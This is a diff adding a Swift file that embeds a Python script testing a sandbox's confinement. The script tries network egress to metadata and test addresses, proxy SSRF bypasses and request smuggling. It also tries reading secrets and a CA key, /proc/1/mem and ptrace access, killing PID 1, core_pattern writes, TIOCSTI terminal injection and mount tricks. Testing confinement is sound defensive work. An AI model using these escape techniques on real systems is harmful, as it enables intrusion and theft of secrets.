@@ -1,0 +1,207 @@
+// A program that tries to get out of `lupin exec --confine`: bytes out, or secrets in.
+
+/// What the confined program runs: Python, with nothing but its standard library.
+///
+/// Each attempt prints a line, `kept` or `OPEN` and its name. An attempt that raises is kept.
+enum Adversary {
+    static let script = #"""
+        import ctypes, errno, fcntl, http.client, json, os, signal, socket, struct, subprocess, sys
+        facts = json.loads(sys.argv[1])
+        port, folder, secret = facts["port"], facts["folder"], facts["secret"]
+        libc = ctypes.CDLL(None, use_errno=True)
+        attempts = []
+        def attempt(function):
+            attempts.append((function.__name__.replace("_", " "), function))
+            return function
+        def call(number, *arguments):
+            result = libc.syscall(ctypes.c_long(number), *arguments)
+            if result < 0: raise OSError(ctypes.get_errno(), "refused")
+            return result
+        def each(name, function, *cases):
+            for case in cases: attempts.append((f"{name} {case}", lambda case=case: function(case)))
+
+        # Past the proxy
+        def connects(target):
+            host, to = target
+            family = socket.AF_INET6 if ":" in host else socket.AF_INET
+            s = socket.socket(family, socket.SOCK_STREAM); s.settimeout(2)
+            s.connect((host, to)); s.sendall(b"out"); return True
+        each("TCP to", connects, ("127.0.0.1", port), ("::1", port), ("192.0.2.1", 80),
+             ("2001:db8::1", 443), ("169.254.169.254", 80), ("0.0.0.0", port), ("127.0.0.53", 53))
+        def sends(target):
+            host, to = target
+            family = socket.AF_INET6 if ":" in host else socket.AF_INET
+            s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(1); s.connect((host, to))
+            s.send(b"out"); s.recv(1); return True
+        each("UDP to", sends, ("127.0.0.1", port), ("::1", port), ("192.0.2.1", 53))
+        @attempt
+        def ICMP():
+            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
+            s.sendto(b"\x08\0\xf7\xff\0\0\0\0", ("192.0.2.1", 0)); return True
+        @attempt
+        def a_raw_socket(): socket.socket(socket.AF_INET, socket.SOCK_RAW, 255); return True
+        @attempt
+        def a_packet_socket(): socket.socket(17, socket.SOCK_RAW, 0x300); return True
+        @attempt
+        def a_socket_of_virtual_machines(): socket.socket(40, socket.SOCK_STREAM); return True
+        @attempt
+        def a_name(): socket.getaddrinfo("example.com", 80); return True
+        @attempt
+        def a_route():
+            s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
+            link = struct.pack("=BxHiII", 0, 0, 0, 0, 0) + struct.pack("=HH8s", 12, 3, b"out0\0")
+            s.send(struct.pack("=IHHII", 16 + len(link), 16, 0x605, 1, 0) + link)
+            return struct.unpack("=i", s.recv(64)[16:20])[0] == 0
+        @attempt
+        def an_abstract_socket():
+            s = socket.socket(socket.AF_UNIX); s.connect("\0" + facts["abstract"]); return True
+        @attempt
+        def the_admin_socket():
+            s = socket.socket(socket.AF_UNIX); s.connect(facts["admin"]); return True
+        @attempt
+        def the_admin_socket_by_way_of_the_first_process():
+            s = socket.socket(socket.AF_UNIX); s.connect("/proc/1/root" + facts["admin"])
+            return True
+        @attempt
+        def the_network_of_the_first_process():
+            call(308, os.open("/proc/1/ns/net", os.O_RDONLY), 0); return connects(("127.0.0.1", port))
+        @attempt
+        def a_network_of_its_own():
+            code = f"import socket; socket.create_connection(('127.0.0.1', {port}), 1).send(b'out')"
+            return subprocess.run(["unshare", "-Urn", sys.executable, "-c", code],
+                stderr=subprocess.DEVNULL).returncode == 0
+
+        # Through the proxy
+        proxy = ("127.0.0.1", int(os.environ["http_proxy"].rsplit(":", 1)[1].strip("/")))
+        def ask(bytes):
+            s = socket.create_connection(proxy, 5); s.sendall(bytes); s.settimeout(2)
+            answer = b""
+            try:
+                while True:
+                    part = s.recv(65536)
+                    if not part: break
+                    answer += part
+            except socket.timeout: pass
+            return answer
+        def passes(bytes):
+            first = ask(bytes).split(b"\r\n")[0]
+            return first != b"" and first.split(b" ")[1:2] not in ([b"403"], [b"400"], [b"421"],
+                [b"404"], [b"405"], [b"501"], [b"502"], [b"508"])
+        def fetches(host): return passes(
+            f"GET http://{host}/ HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
+        each("the proxy fetches", fetches, f"127.0.0.1:{port}", f"localhost:{port}",
+             f"[::1]:{port}", f"127.1:{port}", f"2130706433:{port}", f"0x7f000001:{port}",
+             f"0.0.0.0:{port}", f"[::ffff:127.0.0.1]:{port}", f"LOCALHOST.:{port}",
+             "169.254.169.254", f"denied.test:{port}")
+        def tunnels(host):
+            answers = ask((f"CONNECT {host} HTTP/1.1\r\nHost: {host}\r\n\r\n"
+                f"GET / HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n").encode())
+            # A tunnel that is decrypted is granted; what counts is the answer inside.
+            return b"HTTP/1.1 403" not in answers
+        each("the proxy connects to", tunnels, f"127.0.0.1:{port}", f"localhost:{port}",
+             f"[::1]:{port}", f"denied.test:{port}", "192.0.2.1:22")
+        each("the proxy serves", fetches, "lupin/v1/rules", f"127.0.0.1:{proxy[1]}/v1/rules",
+             "lupin/v1/tokens")
+        @attempt
+        def a_reload(): return passes(
+            b"POST http://lupin/v1/reload HTTP/1.1\r\nHost: lupin\r\nContent-Length: 0\r\n\r\n")
+        @attempt
+        def another_Host(): return b"yes" not in ask((
+            f"GET http://allowed.test/ HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n"
+            "Connection: close\r\n\r\n").encode())
+        @attempt
+        def a_request_in_a_body():
+            inner = f"GET http://127.0.0.1:{port}/ HTTP/1.1\r\nHost: x\r\n\r\n"
+            return ask((f"POST http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\n"
+                f"Content-Length: {len(inner)}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{inner}"
+                ).encode()).startswith(b"HTTP/1.1 200")
+
+        # Secrets
+        def read(path):
+            with open(path, "rb") as file: return file.read(1 << 20)
+        def holds(path): return secret.encode() in read(path)
+        each("reading", lambda name: holds(f"{folder}/{name}"), "lupin.yaml", "token", "log")
+        each("reading by the first process", lambda name: holds(f"/proc/1/root{folder}/{name}"),
+             "lupin.yaml", "token")
+        @attempt
+        def the_key_of_the_CA(): return b"PRIVATE KEY" in read(f"{folder}/ca.key")
+        @attempt
+        def variables_of_any_process():
+            return any(holds(f"/proc/{id}/environ") for id in os.listdir("/proc") if id.isdigit())
+        @attempt
+        def memory_of_the_first_process():
+            os.open("/proc/1/mem", os.O_RDONLY); return True
+        @attempt
+        def descriptors_of_the_first_process():
+            return any("socket" in os.readlink(f"/proc/1/fd/{fd}") for fd in os.listdir("/proc/1/fd"))
+        @attempt
+        def a_descriptor_of_lupin():
+            own = [os.readlink(f"/proc/self/fd/{fd}") for fd in range(3, 64)
+                if os.path.exists(f"/proc/self/fd/{fd}")]
+            return any(name.startswith("socket") for name in own)
+        @attempt
+        def tracing(): return libc.ptrace(16, 1, 0, 0) == 0
+        @attempt
+        def taking_a_descriptor(): call(438, call(434, 1, 0), 0, 0); return True
+        @attempt
+        def a_file_by_its_handle():
+            handle = struct.pack("=Ii8s", 8, 1, b"\x02\0\0\0\0\0\0\0")
+            call(304, os.open("/", os.O_RDONLY), handle, os.O_RDONLY); return True
+        @attempt
+        def ending_the_first_process():
+            os.kill(1, signal.SIGKILL); os.kill(1, 0); return not os.path.exists("/proc/1")
+
+        # The hides
+        rules = f"{folder}/lupin.yaml"
+        @attempt
+        def writing_the_rules(): open(rules, "a").write("x"); return True
+        @attempt
+        def removing_the_rules(): os.unlink(rules); return True
+        @attempt
+        def other_rules_in_their_place():
+            open(f"{folder}/new", "w").write("lupin: 1\n"); os.rename(f"{folder}/new", rules)
+            return True
+        @attempt
+        def moving_their_folder(): os.rename(folder, folder + "2"); return True
+        @attempt
+        def unmounting():
+            if libc.umount2(rules.encode(), 2) != 0: raise OSError(ctypes.get_errno(), "refused")
+            return True
+        def nested(command): return subprocess.run(["unshare", "-Urm", "sh", "-c", command],
+            capture_output=True)
+        @attempt
+        def unmounting_as_another_root():
+            return secret.encode() in nested(f"umount -l {rules}; cat {rules}").stdout
+        @attempt
+        def mounting_the_root_elsewhere():
+            os.makedirs(f"{folder}/m", exist_ok=True)
+            return secret.encode() in nested(
+                f"mount --bind / {folder}/m; cat {folder}/m{rules}").stdout
+        @attempt
+        def another_root(): os.chroot("/tmp"); return True
+        @attempt
+        def a_device(): os.mknod(f"{folder}/device", 0o60600, os.makedev(254, 0)); return True
+        each("opening", lambda path: os.open(path, os.O_RDONLY) >= 0, "/dev/mem", "/dev/vda",
+             "/dev/sda", "/dev/kmsg", "/dev/kvm")
+        each("changing", lambda path: os.open(path, os.O_WRONLY) >= 0,
+             "/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/sys/kernel/uevent_helper",
+             "/proc/sys/kernel/modprobe")
+        @attempt
+        def typing_into_the_terminal():
+            for fd in range(3): fcntl.ioctl(fd, 0x5412, b"x")
+            return True
+        @attempt
+        def a_ring_of_calls(): call(425, 8, bytes(120)); return True
+        @attempt
+        def becoming_another_user(): os.setuid(65533); return True
+        @attempt
+        def gaining_rights_by_a_program():
+            return subprocess.run(["su", "-c", "true"], stdin=subprocess.DEVNULL,
+                capture_output=True).returncode == 0 and os.geteuid() != 0
+
+        for name, function in attempts:
+            try: isOpen = function()
+            except BaseException: isOpen = False
+            print("OPEN" if isOpen else "kept", name, flush=True)
+        """#
+}
